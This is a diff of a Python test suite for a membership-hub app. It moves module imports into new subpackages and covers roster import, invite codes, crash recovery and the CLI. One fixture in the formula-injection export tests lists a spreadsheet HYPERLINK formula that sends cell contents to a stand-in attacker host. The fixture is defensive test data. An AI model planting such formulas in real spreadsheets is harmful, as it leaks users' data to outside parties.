@@ -14,17 +14,17 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-import hub.invites
-import hub.roster
-from hub import audit
-from hub.areas import area_by_path
+import hub.roster.importer
+import hub.roster.invites
+from hub.access import audit
+from hub.access.areas import area_by_path
 from hub.cli import main
-from hub.exports import safe_cell, unquote_cell, write_xlsx
-from hub.invites import INVITE_COLUMNS, invite_rows, write_invites
-from hub.members import CODE_LENGTH
-from hub.phone import InvalidPhone, normalize_phone
-from hub.roster import ImportReport, import_roster, import_rows
-from hub.roster_file import RosterFileError, numbered_area_name, read_roster_file
+from hub.core.exports import safe_cell, unquote_cell, write_xlsx
+from hub.core.phone import InvalidPhone, normalize_phone
+from hub.roster.importer import ImportReport, import_roster, import_rows
+from hub.roster.invites import INVITE_COLUMNS, invite_rows, write_invites
+from hub.roster.members import CODE_LENGTH
+from hub.roster.roster_file import RosterFileError, numbered_area_name, read_roster_file
 from models import Area, AreaKind, AuditLog, ChannelAddress, Member, Seat, SeatRole
 from tests.conftest import make_config
 from tests.factories import make_member
@@ -316,7 +316,7 @@ async def test_whatsapp_number_of_another_member_is_rejected(db: str) -> None:
 async def test_invite_code_clash_is_retried(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
     taken = (await make_member()).invite_code
     codes = iter([taken, "FRESH234"])
-    monkeypatch.setattr(hub.invites, "new_invite_code", lambda: next(codes))
+    monkeypatch.setattr(hub.roster.invites, "new_invite_code", lambda: next(codes))
 
     await import_rows([(2, roster_row(phone="0812-3456-7001"))])
 
@@ -326,13 +326,13 @@ async def test_invite_code_clash_is_retried(db: str, monkeypatch: pytest.MonkeyP
 @pytest.fixture
 def no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
     """No pause between batches: in one process, other writers get their turn without it."""
-    monkeypatch.setattr(hub.roster, "SQLITE_PAUSE_SECONDS", 0)
+    monkeypatch.setattr(hub.roster.importer, "SQLITE_PAUSE_SECONDS", 0)
 
 
 async def test_crash_keeps_whole_batches_and_a_rerun_finishes(
     db: str, monkeypatch: pytest.MonkeyPatch, no_pause: None
 ) -> None:
-    real_take_seats = hub.roster._ImportRun.take_seats
+    real_take_seats = hub.roster.importer._ImportRun.take_seats
     calls = 0
 
     async def take_seats_then_crash(self, seated, *, new_members):  # type: ignore[no-untyped-def]
@@ -342,7 +342,7 @@ async def test_crash_keeps_whole_batches_and_a_rerun_finishes(
             raise RuntimeError("disk full")
         return await real_take_seats(self, seated, new_members=new_members)
 
-    monkeypatch.setattr(hub.roster._ImportRun, "take_seats", take_seats_then_crash)
+    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", take_seats_then_crash)
     rows = read_roster_file(FIXTURES / "good.csv")
 
     with pytest.raises(RuntimeError, match="disk full"):
@@ -357,7 +357,7 @@ async def test_crash_keeps_whole_batches_and_a_rerun_finishes(
     ]
     assert not await AuditLog.filter(action="roster.import").exists()
 
-    monkeypatch.setattr(hub.roster._ImportRun, "take_seats", real_take_seats)
+    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", real_take_seats)
     report = await import_rows(rows, batch_rows=3)
 
     assert report.summary() == "created 4, updated 0, unchanged 3, rejected 0"
@@ -702,7 +702,7 @@ def test_cli_refuses_a_bad_file_with_exit_2(
     assert capsys.readouterr().out.splitlines() == [",".join(INVITE_COLUMNS)]
 
 
-# Formula injection in exports (hub/exports.py) -------------------------------------------------
+# Formula injection in exports (hub/core/exports.py) ---------------------------------------------
 
 FORMULA_NAMES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
@@ -807,9 +807,9 @@ def test_cli_regenerates_the_invite_codes_of_an_area_only(
 def test_cli_import_stopped_part_way_says_how_to_finish(
     cli_config: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(hub.roster, "BATCH_ROWS", 3)
-    monkeypatch.setattr(hub.roster, "SQLITE_PAUSE_SECONDS", 0)
-    real_take_seats = hub.roster._ImportRun.take_seats
+    monkeypatch.setattr(hub.roster.importer, "BATCH_ROWS", 3)
+    monkeypatch.setattr(hub.roster.importer, "SQLITE_PAUSE_SECONDS", 0)
+    real_take_seats = hub.roster.importer._ImportRun.take_seats
     calls = 0
 
     async def take_seats_then_crash(self, seated, *, new_members):  # type: ignore[no-untyped-def]
@@ -819,7 +819,7 @@ def test_cli_import_stopped_part_way_says_how_to_finish(
             raise RuntimeError("disk full")
         return await real_take_seats(self, seated, new_members=new_members)
 
-    monkeypatch.setattr(hub.roster._ImportRun, "take_seats", take_seats_then_crash)
+    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", take_seats_then_crash)
     command = ["--config", str(cli_config), "roster", "import", str(FIXTURES / "good.csv")]
 
     assert main(command) == 1
@@ -827,7 +827,7 @@ def test_cli_import_stopped_part_way_says_how_to_finish(
     assert "the import stopped part-way (3 rows done)" in err
     assert "import the same file again to finish it" in err
 
-    monkeypatch.setattr(hub.roster._ImportRun, "take_seats", real_take_seats)
+    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", real_take_seats)
     assert main(command) == 0
     assert capsys.readouterr().out.splitlines()[0] == (
         "created 4, updated 0, unchanged 3, rejected 0"
